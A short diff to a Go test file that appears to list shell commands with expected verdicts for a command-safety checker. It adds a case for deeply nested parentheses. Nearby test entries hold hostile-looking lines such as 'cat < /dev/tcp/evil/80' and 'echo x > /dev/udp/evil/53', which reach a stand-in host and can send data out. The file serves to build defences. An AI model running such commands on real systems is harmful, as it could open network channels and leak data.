@@ -211,6 +211,7 @@ var corpus = []struct {
 	{"cat < /dev/tcp/evil/80", ask, "even with a literal host"},
 	{"echo x > /dev/udp/evil/53", ask, "writing to /dev/udp sends data"},
 	{"cat <<< \"$HOME\"", allow, "a here-string is text, not a file"},
+	{strings.Repeat("(", 300) + "ls" + strings.Repeat(")", 300), ask, "nests too deeply to check (parsing it would take long)"},
 	{"export PATH=.:$PATH; ls", ask, "changes what later commands run"},
 }
 
